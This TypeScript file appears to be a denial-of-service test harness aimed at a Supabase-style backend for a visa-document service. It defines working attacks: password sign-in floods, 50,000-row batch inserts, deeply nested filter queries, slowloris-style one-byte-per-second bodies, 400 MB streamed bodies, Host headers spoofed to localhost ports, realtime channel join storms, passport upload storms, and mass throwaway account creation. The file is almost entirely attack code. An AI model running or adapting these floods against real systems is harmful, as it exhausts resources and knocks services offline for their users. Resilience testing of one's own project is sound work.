import { get as httpGet, request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import WebSocket from 'ws';
import { asPerson, type Project, post, register, request, signIn } from './api';

/** Runs until the process is ended. */
export type Attack = (project: Project) => Promise<unknown>;

const CLIENT = 'novo@rotavisto.test';

/** Runs this number of requests at a time, each again after its response. */
const storm = (parallel: number, one: (turn: number) => Promise<unknown>) =>
  Promise.all(
    Array.from({ length: parallel }, async (_, place) => {
      for (let turn = place; ; turn += parallel) {
        const answer = await one(turn).catch(() => null);
        if (answer instanceof Response) await answer.arrayBuffer().catch(() => null);
        // Without the pause, cheap rejections would only measure the speed of this process.
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    }),
  );

const nested = (depth: number) => `${'or(id.is.null,'.repeat(depth)}id.is.null${')'.repeat(depth)}`;

/** Sends a request's head and then one byte a second. */
function slowly({ url, publishableKey }: Project): void {
  const { hostname, port, host } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.write(
    `POST /rest/v1/rpc/export_my_data HTTP/1.1\r\nhost: ${host}\r\napikey: ${publishableKey}\r\ncontent-length: 5000000\r\n\r\n`,
  );
  const drip = setInterval(() => socket.write('x'), 1000);
  socket.on('error', () => clearInterval(drip));
  socket.on('close', () => clearInterval(drip));
}

function joinMany({ url, publishableKey }: Project, token: string): Promise<unknown> {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${publishableKey}&vsn=2.0.0`);
  socket.on('open', () => {
    for (let channel = 0; channel < 20; channel += 1) {
      const topic = `realtime:ticket:${channel}:x`;
      const payload = { config: { private: true, presence: { key: 'x' } }, access_token: token };
      socket.send(JSON.stringify([`${channel}`, '1', topic, 'phx_join', payload]));
    }
    setTimeout(() => socket.terminate(), 1000);
  });
  return new Promise((resolve) => {
    socket.on('close', resolve);
    socket.on('error', resolve);
  });
}

/** Sends a body as long as it is accepted, up to 400 MB, without a session, because an attacker needs no account. */
const pour = ({ url, publishableKey }: Project, path: string) =>
  new Promise<void>((resolve) => {
    const headers = { apikey: publishableKey, 'content-type': 'application/json' };
    const asked = httpRequest(`${url}${path}`, { method: 'POST', headers });
    const chunk = Buffer.alloc(1024 * 1024, 'x');
    let left = 400;
    const more = (): void => {
      while (left > 0 && !asked.destroyed) {
        left -= 1;
        if (!asked.write(chunk)) return void asked.once('drain', more);
      }
      asked.end();
    };
    asked.on('response', (answer) => answer.resume());
    asked.on('close', resolve);
    asked.on('error', () => resolve());
    more();
  });

/** Requests a page under a name of this machine with an unused port. */
const byMadeUpName = ({ url }: Project, turn: number) =>
  new Promise<void>((resolve) => {
    const headers = { host: `127.0.0.1:${1 + (turn % 65_000)}`, accept: 'text/html', 'accept-encoding': 'br' };
    const asked = httpGet(url, { headers, agent: false }, (answer) => answer.resume());
    asked.on('close', resolve);
    asked.on('error', () => resolve());
  });

/** Attacks on functions of the site's own server. */
export const ON_SITE = new Set(['made-up names']);

export const ATTACKS: Record<string, Attack> = {
  'sign-in flood': (project) =>
    storm(60, (turn) =>
      post(project, '/auth/v1/token?grant_type=password', { email: `x${turn}@exemplo.test`, password: 'Errada#2026' }),
    ),
  'huge batches': async (project) => {
    const { token } = await signIn(project, CLIENT);
    const paths = Array.from({ length: 20_000 }, (_, place) => `documents/${place}.pdf`);
    const rows = Array.from({ length: 50_000 }, () => ({ subject: 'x', content: 'y' }));
    return storm(6, (turn) =>
      turn % 2
        ? post(project, '/storage/v1/object/sign/visa-documents', { expiresIn: 60, paths }, asPerson(token))
        : post(project, '/rest/v1/ticket_messages', rows, asPerson(token)),
    );
  },
  'deep filters': async (project) => {
    const { token } = await signIn(project, CLIENT);
    return storm(20, (turn) =>
      request(project, `/rest/v1/notifications?select=*&or=(${nested(100 + (turn % 400))})`, {
        headers: asPerson(token),
      }),
    );
  },
  'slow bodies': async (project) => {
    for (let socket = 0; socket < 300; socket += 1) slowly(project);
    return new Promise(() => {});
  },
  'endless bodies to functions': (project) => storm(4, () => pour(project, '/functions/v1/quick-register')),
  'a hundred calls of one function': (project) =>
    storm(100, () => post(project, '/functions/v1/confirm-checkout', { sessionId: 'cs_test_x' })),
  'made-up names': (project) => storm(40, (turn) => byMadeUpName(project, turn)),
  'realtime joins': async (project) => {
    const { token } = await signIn(project, CLIENT);
    return storm(30, () => joinMany(project, token));
  },
  'upload storm': async (project) => {
    const { token, id } = await signIn(project, CLIENT);
    const body = new Uint8Array(5 * 1024 * 1024 - 100);
    return storm(8, (turn) =>
      request(project, `/storage/v1/object/visa-documents/documents/${id}/passport/${turn}.pdf`, {
        method: 'POST',
        body,
        headers: { ...asPerson(token), 'content-type': 'application/pdf' },
      }),
    );
  },
  'fresh accounts that report failures': async (project) => {
    const people: string[] = [];
    for (let place = 0; place < 25; place += 1) people.push((await register(project, `novo${place}`)).token);
    const report = { remote: 'client', version: 'v1', class: 'integrity', message: 'x'.repeat(1000), path: '/client' };
    return storm(25, (turn) =>
      post(project, '/rest/v1/rpc/report_client_error', report, asPerson(people[turn % people.length] ?? '')),
    );
  },
};
